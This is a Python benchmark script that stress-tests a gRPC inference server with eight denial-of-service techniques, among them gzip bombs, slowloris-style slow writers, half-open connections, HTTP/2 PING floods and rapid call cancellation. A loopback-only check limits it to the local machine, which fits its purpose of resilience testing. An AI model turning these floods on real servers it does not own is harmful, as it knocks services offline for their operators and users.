"""What somebody on the network may do to a gRPC server: eight ways to ask for more than it should give.

    python benchmarks/attacks.py NAME HOST:PORT SECONDS

Each runs in this process for so many seconds and prints how often it struck. HOST must be this machine: a flood of
anything else is an attack and no benchmark.
"""

from __future__ import annotations

import ipaddress
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import grpc
import numpy

from hybridge_edge.contract.protos import open_inference_pb2 as messages

METHOD = "/inference.GRPCInferenceService/ModelInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
"""RFC 9113, 3.4."""
SETTINGS, PING = 4, 6
CONNECTIONS = 200
IN_FLIGHT = 2_000
MEGABYTE = 1024 * 1024


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(megabytes: float = 0.0) -> bytes:
    """A request of the watch model, its one tensor so large."""
    rows = max(1, int(megabytes * MEGABYTE / (8 * 3 * 4)))
    message = messages.ModelInferRequest(model_name="watch")
    message.inputs.add(name="window", datatype="FP32", shape=(rows, 8, 3))
    message.raw_input_contents.append(numpy.zeros((rows, 8, 3), numpy.float32).tobytes())
    return message.SerializeToString()


def caller(target: str) -> tuple[grpc.Channel, Any]:
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    channel = grpc.insecure_channel(target, options=options)
    call = channel.unary_unary(METHOD, request_serializer=None, response_deserializer=None)
    return channel, call


def oversize(target: str) -> Iterator[None]:
    channel, call = caller(target)
    body = request(24)
    with channel:
        while True:
            with suppress(grpc.RpcError):
                call(body, timeout=5)
            yield


def gzip_bomb(target: str) -> Iterator[None]:
    """96 MB that travel as 100 kB."""
    channel, call = caller(target)
    body = request(96)
    with channel:
        while True:
            with suppress(grpc.RpcError):
                call(body, timeout=5, compression=grpc.Compression.Gzip)
            yield


def many_in_flight(target: str) -> Iterator[None]:
    channels = [caller(target) for _ in range(8)]
    body = request()
    while True:
        futures = [channels[n % 8][1].future(body, timeout=5) for n in range(IN_FLIGHT)]
        for future in futures:
            with suppress(grpc.RpcError, grpc.FutureTimeoutError, grpc.FutureCancelledError):
                future.result(6)
        yield


def rapid_cancel(target: str) -> Iterator[None]:
    _, call = caller(target)
    body = request()
    while True:
        for future in [call.future(body, timeout=5) for _ in range(50)]:
            future.cancel()
        yield


def connect(target: str) -> socket.socket | None:
    host, port = target.rsplit(":", 1)
    one = socket.socket()
    one.settimeout(1.0)
    try:
        one.connect((host, int(port)))
    except OSError:
        one.close()
        return None
    return one


def send(one: socket.socket, data: bytes) -> bool:
    try:
        one.sendall(data)
    except OSError:
        return False
    return True


def slow_writers(target: str) -> Iterator[None]:
    """Connections that send a byte now and then."""
    sockets: list[socket.socket] = []
    opening = PREFACE + frame(SETTINGS)
    at = 0
    while True:
        sockets += [one for _ in range(20) if len(sockets) < CONNECTIONS and (one := connect(target)) is not None]
        kept = [one for one in sockets if send(one, opening[at % len(opening) : at % len(opening) + 1])]
        for one in set(sockets) - set(kept):
            one.close()
        sockets = kept
        at += 1
        time.sleep(0.05)
        yield


def half_open(target: str) -> Iterator[None]:
    """Connections that say nothing at all."""
    sockets: list[socket.socket] = []
    while True:
        if len(sockets) < CONNECTIONS:
            sockets += [one for _ in range(20) if (one := connect(target)) is not None]
        time.sleep(0.05)
        yield


def pings(target: str) -> Iterator[None]:
    """Keepalive pings, as fast as they go."""
    many = frame(PING, bytes(8)) * 500
    while True:
        one = connect(target)
        if one is not None and send(one, PREFACE + frame(SETTINGS)):
            for _ in range(50):
                if not send(one, many):
                    break
                yield
        if one is not None:
            one.close()
        yield


def garbage(target: str) -> Iterator[None]:
    """Random bytes after a good beginning."""
    while True:
        one = connect(target)
        if one is not None:
            send(one, PREFACE + frame(SETTINGS) + os.urandom(4096))
            one.close()
        yield


ATTACKS: dict[str, Callable[[str], Iterator[None]]] = {
    "oversize": oversize,
    "gzip-bomb": gzip_bomb,
    "many-in-flight": many_in_flight,
    "rapid-cancel": rapid_cancel,
    "slow-writers": slow_writers,
    "half-open": half_open,
    "pings": pings,
    "garbage": garbage,
}


def main(arguments: list[str]) -> int:
    name, target, seconds = arguments
    host = target.rsplit(":", 1)[0]
    if not ipaddress.ip_address(host).is_loopback:
        print(f"attacks: {host} is not this machine.", file=sys.stderr)
        return 2
    until, strikes = time.monotonic() + float(seconds), 0
    for _ in ATTACKS[name](target):
        strikes += 1
        if time.monotonic() > until:
            break
    print(strikes)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
